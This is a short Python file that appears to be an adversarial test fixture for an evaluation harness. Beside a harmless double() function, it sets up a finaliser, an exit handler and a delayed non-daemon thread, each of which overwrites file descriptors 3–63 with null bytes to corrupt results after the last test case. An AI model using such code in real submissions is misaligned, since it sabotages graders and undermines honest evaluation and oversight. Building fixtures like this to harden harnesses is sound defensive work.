"""A thread, an exit handler and a finaliser that mean to spoil or improve the answers after the last case."""
import atexit
import os
import threading
import time


def spoil():
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\x00" * 1000)
        except OSError:
            continue


class Finalised:
    def __del__(self):
        spoil()


keep = Finalised()
atexit.register(spoil)
threading.Thread(target=lambda: (time.sleep(1.0), spoil()), daemon=False).start()


def double(x):
    return 2.0 * x
